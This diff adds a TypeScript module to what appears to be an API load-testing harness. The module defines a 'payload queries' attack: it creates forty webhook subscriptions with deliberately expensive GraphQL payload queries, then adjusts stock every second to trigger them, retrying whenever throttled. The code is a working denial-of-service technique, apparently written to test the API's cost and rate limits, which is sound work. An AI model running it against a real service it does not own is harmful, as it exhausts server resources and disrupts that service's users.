@@ -1,0 +1,95 @@
+import { once } from "node:events";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
+import type { Attack, Play } from "../attack.ts";
+import { bodyOf, repeat, send } from "../attack.ts";
+
+const subscriptions = 40;
+/** Milliseconds between two bookings of forty products. */
+const bookingMs = 1_000;
+
+/** As costly as a payload query may be. */
+const payloadQuery = `query ($id: ID!) { node(id: $id) { id } customers(first: 1, filter: { OR: [${repeat(
+  90,
+  (n) => `{ lastName: { contains: "nothing like ${n}" } }`,
+)}] }) { edges { node { id } } } }`;
+
+const subscribe = `mutation ($input: WebhookSubscriptionCreateInput!) {
+  webhookSubscriptionCreate(input: $input) { webhookSubscription { id } userErrors { code message } } }`;
+
+/** What the operations here are answered. */
+interface Answered {
+  webhookSubscriptionCreate: { userErrors: { message: string }[] };
+  stocks: { edges: { node: { productId: string; binLocationId: string } }[] };
+}
+
+/**
+ * Asks again while there are too few points.
+ *
+ * @returns null when the attack ended before
+ * @throws when it isn't answered as it should be: then nothing would be attacked
+ */
+async function ask(play: Play, query: string, variables?: object): Promise<Answered | null> {
+  for (;;) {
+    const text = await send(play, { token: play.token, body: bodyOf(query, variables) });
+    const { data, errors } = JSON.parse(text || "{}") as {
+      data?: Answered;
+      errors?: { extensions: { code: string } }[];
+    };
+    const isThrottled = errors?.[0]?.extensions.code === "THROTTLED";
+    if (data) return data;
+    if (play.isOver()) return null;
+    if (!isThrottled) throw new Error(text);
+  }
+}
+
+/** A receiver on this machine, which takes every message. */
+async function startReceiver({ tally }: Play): Promise<string> {
+  const server = createServer((request, response) => {
+    request.resume();
+    request.on("end", () => response.writeHead(204).end());
+    tally.note("message");
+  }).listen(0, "127.0.0.1");
+  await once(server, "listening");
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
+
+/** Queries that are run for each message, without anybody asking. */
+export const payloadQueries: Attack = {
+  name: "payload queries",
+  what: "forty subscriptions whose payload queries are as costly as they may be",
+  async run(play) {
+    const url = await startReceiver(play);
+    const lines = await placesOf(play);
+    for (let n = 0; n < subscriptions && !play.isOver(); n++) {
+      const input = { topic: "stock.changed", url: `${url}/${n}`, apiVersion: "unstable", payloadQuery };
+      const data = await ask(play, subscribe, { input });
+      const refused = data?.webhookSubscriptionCreate.userErrors[0];
+      if (refused) throw new Error(refused.message);
+    }
+    while (!play.isOver()) {
+      await ask(
+        play,
+        "mutation ($lines: [StockAdjustLineInput!]!) { stockAdjust(input: { lines: $lines }) { userErrors { code } } }",
+        { lines },
+      );
+      await sleep(bookingMs);
+    }
+  },
+};
+
+/** Lines that book a unit more of each of forty stocks. */
+async function placesOf(play: Play): Promise<object[]> {
+  const data = await ask(
+    play,
+    `{ stocks(first: ${subscriptions}, filter: { locationTypeTechnicalName: { equals: "bin_location" } }) {
+      edges { node { productId binLocationId } } } }`,
+  );
+  const edges = data?.stocks.edges ?? [];
+  return edges.map(({ node: { productId, binLocationId } }) => ({
+    productId,
+    place: { binLocationId },
+    delta: 1,
+  }));
+}
